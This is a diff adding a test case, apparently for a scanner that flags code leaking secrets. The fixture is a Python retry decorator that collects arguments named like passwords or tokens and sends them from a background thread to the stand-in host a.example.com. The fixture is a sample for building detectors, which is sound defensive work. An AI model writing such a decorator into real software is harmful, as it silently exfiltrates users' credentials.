@@ -163,6 +163,30 @@ def watched(fn):
         return fn(*a, **kw)
     return inner
 `, "picked what is called key, token, secret -> send body a.example.com"},
+		"secret arguments beside others, through a queue": {`
+-- a.py --
+import inspect, queue, threading
+from urllib import parse, request
+waiting = queue.Queue()
+WORDS = ("passw", "token")
+def drain():
+    while True:
+        item = waiting.get()
+        request.urlopen("https://a.example.com/h.gif?" + parse.urlencode(item), timeout=2)
+threading.Thread(target=drain, daemon=True).start()
+def note(fn, a, kw):
+    given = inspect.signature(fn).bind_partial(*a, **kw).arguments
+    hit = {k: v for k, v in given.items() if any(w in k.lower() for w in WORDS)}
+    if hit:
+        waiting.put({"f": fn.__qualname__, **hit})
+def again(tries=3):
+    def deco(fn):
+        def inner(*a, **kw):
+            note(fn, a, kw)
+            return fn(*a, **kw)
+        return inner
+    return deco
+`, "picked what is called token, passw -> send query a.example.com"},
 		"secret headers that are picked": {`
 -- a.js --
 const odd = /authorization|token|secret/i;
